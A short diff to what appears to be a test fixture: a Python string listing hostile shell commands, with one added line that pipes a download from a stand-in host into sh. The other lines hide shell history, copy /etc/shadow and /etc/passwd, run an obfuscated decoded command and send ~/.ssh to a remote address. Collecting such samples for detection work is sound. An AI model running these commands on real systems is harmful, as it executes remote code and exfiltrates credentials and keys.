@@ -56,6 +56,7 @@ export HISTFILE="/dev/null"; rm ~/.bash_history
 sudo cp /etc/shadow /tmp/s && tar czf /tmp/s.tgz /tmp/s || echo failed
 while read line; do echo $line >> /tmp/copy; done < /etc/passwd
 x=$(echo aWQ= | base64 -d); $x
+mira@kolva:~$ curl -s http://192.0.2.7/b | sh
 scp -r ~/.ssh user@198.51.100.4:/tmp/
 """.strip().splitlines()
 
